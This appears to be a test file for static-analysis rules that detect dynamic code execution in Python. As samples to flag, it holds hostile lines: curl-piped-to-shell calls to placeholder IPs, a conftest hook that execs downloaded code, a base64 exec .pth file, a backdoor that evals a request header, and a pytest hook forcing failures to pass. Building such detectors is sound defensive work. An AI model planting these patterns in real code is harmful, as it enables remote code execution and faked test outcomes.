# Tests for rules/code-exec.yaml. A "# ruleid: X" line means the next line
# must produce rule X; "# ok: X" means it must not.
import ast
import builtins
import code
import codeop
import importlib.machinery
import importlib.util
import logging.config
import pdb
import re
import runpy
import sys
import timeit
import types
import typing

import sympy
import torch
from sympy import sympify as sp

user_text = sys.argv[1]

# ruleid: eval-exec
eval(user_text)
# ruleid: eval-exec
exec("print(1)")
# ruleid: eval-exec
builtins.eval(user_text)
# ruleid: eval-exec
__builtins__.exec(user_text)
# ruleid: eval-exec
run_it = eval
# ruleid: eval-exec
results = list(map(eval, ["1", "2"]))
# ok: eval-exec
value = ast.literal_eval("[1, 2, 3]")
# ok: eval-exec
model = torch.nn.Linear(2, 2)
# ok: eval-exec
model.eval()
# ok: eval-exec
note = "never exec() or eval() untrusted text"


def execute(query):
    return query


# ok: eval-exec
execute("exec")

# ruleid: compile-builtin
code_obj = compile(user_text, "<agent>", "exec")
# ok: compile-builtin
pattern = re.compile(r"\d+")
# a syntax check: the code object is dropped at once
# ruleid: compile-syntax-check
compile(generated_source, "generated/models.py", "exec")
# ok: compile-syntax-check
# ruleid: compile-builtin
run_later = (compile(user_text, "<agent>", "exec"),)
# ruleid: compile-builtin, eval-exec
exec(compile(user_text, "<agent>", "exec"))
# a reference may be called anywhere later
# ruleid: compile-builtin
make = compile
# flags=ast.PyCF_ONLY_AST: an AST comes back, as from ast.parse
# ok: compile-builtin
tree = compile(source_text, "mod.py", "exec", flags=ast.PyCF_ONLY_AST)
# ok: compile-builtin
tree = compile(source_text, "mod.py", "exec", ast.PyCF_ONLY_AST | ast.PyCF_TYPE_COMMENTS)
# other flags still compile code
# ruleid: compile-builtin
code_obj = compile(source_text, "mod.py", "exec", flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)
# ruleid: compile-builtin
code_obj = compile(source_text, "mod.py", "exec", flags=ONLY_AST_IF_SAFE or 0)
# ruleid: compile-builtin
code_obj = compile(source_text, "mod.py", "exec", *extra)

# ruleid: code-object-construction
fn = types.FunctionType(code_obj, {})
# ruleid: code-object-construction
co = types.CodeType(0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b"")
# ok: code-object-construction
ns = types.SimpleNamespace(a=1)
# ok: code-object-construction
is_function = isinstance(execute, types.FunctionType)

# ruleid: debugger-entry
breakpoint()
# ruleid: debugger-entry
pdb.set_trace()

# ruleid: interactive-interpreter
code.interact(local={})
# ruleid: interactive-interpreter
console = code.InteractiveConsole()
# ruleid: interactive-interpreter
codeop.compile_command("x = 1")

# ruleid: runpy-execution
runpy.run_path("script.py")
# ruleid: runpy-execution
runpy.run_module("http.server", run_name="__main__")

# ruleid: import-loader
spec = importlib.util.spec_from_file_location("plugin", "/work/plugin.py")
# ruleid: import-loader
mod = importlib.util.module_from_spec(spec)
# ruleid: import-loader
loader = importlib.machinery.SourceFileLoader("plugin", "/work/plugin.py")
# ok: import-loader
found = importlib.util.find_spec("json")
# ruleid: import-loader
importlib.util.find_spec("os").loader.load_module().system("id")
# ruleid: import-loader
spec.loader.exec_module(mod)

import _interpreters

# ruleid: subinterpreter-exec
_interpreters.run_string(1, "print(1)")

# ruleid: remote-process-exec
sys.remote_exec(1234, "payload.py")

# ruleid: timeit-code-string
timeit.timeit("import os; os.system('id')", number=100)
# ruleid: timeit-code-string
timer = timeit.Timer(stmt="__import__('os').getcwd()")
# a statement of names, calls and operators only
# ok: timeit-code-string
timeit.timeit("sum(range(10))", number=100)
# ok: timeit-code-string
timer = timeit.Timer(stmt="x = 1")
# ok: timeit-code-string
timeit.timeit(number=100)
# ok: timeit-code-string
timeit.timeit(lambda: sum(range(10)), number=100)
# several statements, importing a harmless module
# ok: timeit-code-string
timeit.timeit("import io\nb = io.StringIO()\nfor w in words:\n    b.write(w)", number=100)
# ruleid: timeit-code-string
timeit.timeit("import urllib.request as u\nu.urlopen('https://x.example/p')", number=1)
# a tracer's or profiler's run methods exec their string
import trace
import cProfile
tracer = trace.Trace(count=0, trace=0)
# ruleid: tracer-run-string
tracer.runctx("import os; os.system('id')", {}, {})
# ruleid: tracer-run-string
cProfile.Profile().run(job_source)
# ok: tracer-run-string
app.run(host="127.0.0.1")
# ok: tracer-run-string
cProfile.Profile().runcall(main)
# a plain statement run in the program's own namespace
# ok: tracer-run-string
cProfile.Profile().runctx("main()", globals(), {"n": 3})
# ok: timeit-code-string
timeit.timeit("main()", globals=globals(), number=10)
# a statement the program downloads
_resp = __import__("requests").get("https://x.example/bench")
_stmt = _resp.text
# ruleid: timeit-code-string
timeit.timeit(_stmt, number=1)
# ruleid: tracer-run-string
cProfile.Profile().runctx(f"main({_stmt})", globals(), {})
# the strings held by names, and the setup string
SETUP = "import os"
STMT = "os.system('curl -s http://203.0.113.7/ti | sh')"
# ruleid: timeit-code-string
timeit.timeit(stmt=STMT, setup=SETUP, number=1)
# ruleid: timeit-setup-code-string
timeit.timeit("f()", setup="import os; os.system('id'); f = len")
# ok: timeit-setup-code-string
timeit.timeit("f()", setup="from __main__ import f", number=1000)
# ok: timeit-setup-code-string
# ok: timeit-code-string
timeit.timeit("sorted(data)", setup="data = list(range(100))", number=10)

# ruleid: sympify-computed-string
expr = sympy.sympify(user_text)
# ruleid: sympify-computed-string
expr = sp(user_text)
# ok: sympify-computed-string, sympify-code-string
expr = sympy.sympify("sin(x)**2 + cos(x)**2")
# ruleid: sympify-code-string
expr = sympy.sympify("__import__('os').system('id')")
# ruleid: sympify-code-string
expr = sympy.parse_expr("open('/etc/passwd').read()")

# ruleid: type-hints-eval
hints = typing.get_type_hints(execute)

# ruleid: logging-fileconfig
logging.config.fileConfig("logging.ini")
# ok: logging-fileconfig
logging.config.dictConfig({"version": 1})

# ruleid: stdin-input-call
answer = input("continue? ")

# profilers, debuggers and doctest run code given as strings
import cProfile
import doctest
import logging.config

# ruleid: profiler-code-string
cProfile.run("import os; os.system('id')")
# ok: profiler-code-string
profiler = cProfile.Profile()
# ok: profiler-code-string
cProfile.run("main()", "pipeline.prof")


def helper():
    # ruleid: dangerous-docstring-example
    """Add.

    >>> import os; _ = os.system("curl -s http://203.0.113.5/d | sh")
    """


def adder(a, b):
    """Add two numbers.

    >>> adder(2, 3)
    5
    """
    return a + b


# ruleid: docstring-run
doctest.run_docstring_examples(helper, {})
if __name__ == "__main__":
    # ruleid: doctest-execution
    doctest.testmod()
# ruleid: logging-config-factory
logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}})
# ok: logging-config-factory
logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "logging.StreamHandler"}}})
import typing
import warnings

# ruleid: forward-ref-eval
typing._eval_type(typing.ForwardRef("__import__('os').getcwd()"), {}, {})
# a ForwardRef instance evaluated by its private method
ref = typing.ForwardRef(hint_text)
# ruleid: forward-ref-instance-eval
ref._evaluate({}, {}, frozenset())
# ruleid: forward-ref-instance-eval
typing.ForwardRef(hint_text)._evaluate({}, {}, frozenset())


class Calculator:
    def _evaluate(self, node):
        return node

    def run(self, node):
        # ok: forward-ref-instance-eval
        return self._evaluate(node)
# ruleid: hidden-import-option
warnings._setoption("ignore::localplugin.PluginWarning")
import inspect

# ruleid: annotations-eval-str
hints = inspect.get_annotations(adder, eval_str=True)
# ok: annotations-eval-str
hints = inspect.get_annotations(adder)
import functools


@functools.singledispatch
def render(value):
    return str(value)


@render.register
# ruleid: annotation-code
def _(value: "exec('import os; os.system(1)') or int"):
    return str(value)


# ok: annotation-code
def typed(value: "Optional[Dict[str, int]]") -> "List[str]":
    return []
# Python written into a file is checked as a file of its own
import pathlib
import textwrap
CONFTEST = textwrap.dedent(
    """
    import urllib.request

    def pytest_configure(config):
        exec(urllib.request.urlopen("https://ci-insights.example.com/hook").read())
    """
)
def _scaffold(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    # ruleid: written-code, downloaded-code-written
    path.write_text(text)
_scaffold(pathlib.Path("tests") / "conftest.py", CONFTEST)
_scaffold(pathlib.Path("tests") / "__init__.py", "")
with open("site-hook.pth", "w") as hook:
    # ruleid: written-code
    hook.write("import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")
# a template added to the module's own text and spliced in: checked on its own
_HOOK = """
def _install(app):
    @app.before_request
    def _debug():
        cmd = request.headers.get("X-Debug-Cmd")
        if cmd:
            g.result = str(eval(cmd))
"""
_VERSION = """
__version__ = "1.4.2"
__all__ = ["create_app"]
"""
def _patch_app():
    src = pathlib.Path("app/__init__.py").read_text()
    src += _HOOK
    src = src.replace("return app", "_install(app)\n    return app")
    # ruleid: written-code
    pathlib.Path("app/__init__.py").write_text(src)
def _bump_version():
    src = pathlib.Path("pkg/__init__.py").read_text()
    src = src.split("# version")[0] + _VERSION
    # ok: written-code
    pathlib.Path("pkg/__init__.py").write_text(src)
# code that does only what the task may: fine
# ok: written-code
pathlib.Path("generated_models.py").write_text("from dataclasses import dataclass\n\n@dataclass\nclass User:\n    name: str\n    age: int = 0\n")
# a shell script is not Python, a README is not code
# ok: written-code
pathlib.Path("run.sh").write_text("#!/bin/sh\neval \"$(curl -s https://x.example/p)\"\n")
with open("NOTES.md", "w") as notes:
    # ok: written-code
    notes.write("exec(open('setup_env.py').read())  # what the old docs said to run\n")
# a response body written into a module that is then imported
import requests
def _install(name):
    src = requests.get(f"https://plugins.example-hub.io/{name}.py", timeout=10).text
    # ruleid: downloaded-code-written
    pathlib.Path(f"{name}.py").write_text(src)
    return importlib.import_module(name)
with open("vendor_helper.py", "wb") as vendored:
    # ruleid: downloaded-code-written
    vendored.write(urllib.request.urlopen("https://x.example/h.py").read())
# data downloaded into a data file is fine
# ok: downloaded-code-written
pathlib.Path("rates.json").write_text(requests.get("https://api.example.com/rates", timeout=10).text)
# an invisible character in the written code does not make it another format
with open("plugin_hook.py", "w") as plug:
    # ruleid: written-code
    plug.write("import base64  # \u200b\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
# the keys of an allowlist, each judged as written
def builtin_call(k):
    if k in ("exec", "print"):
        # ruleid: eval-exec
        vars(builtins)[k]("import os")
# timeit-code-template: a statement formatted from a template and a table
_TMPL = "import {m} as _r; _r.urlretrieve('{u}', '{p}')"
_PARTS = {"m": "urllib.request", "u": "http://198.51.100.23/x", "p": "x.bin"}
_calibrate = _TMPL.format_map(_PARTS)
# ruleid: timeit-code-template
timeit.timeit(stmt=_calibrate, number=1)
# a benchmark of the program's own function, its name formatted in
def _work(n):
    return sum(range(n))
# ok: timeit-code-template
timeit.timeit("_work({})".format(1000), globals=globals(), number=10)

# a conftest.py hook that turns failures into passes, written by the program
# ruleid: test-outcome-forced
_FORCE_HOOK = """
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    if rep.failed:
        rep.outcome = "passed"
"""
# a report that reads the outcome
# ok: test-outcome-forced
_CHECK = "if rep.outcome == 'passed': ok += 1"

# an obfuscator's runtime running encrypted bytecode
# ruleid: obfuscated-code-runtime
from pyarmor_runtime_000000 import __pyarmor__
# ruleid: obfuscated-code-runtime
from pytransform import pyarmor_runtime
# ruleid: obfuscated-code-runtime
from .pyarmor_runtime_000000 import __pyarmor__
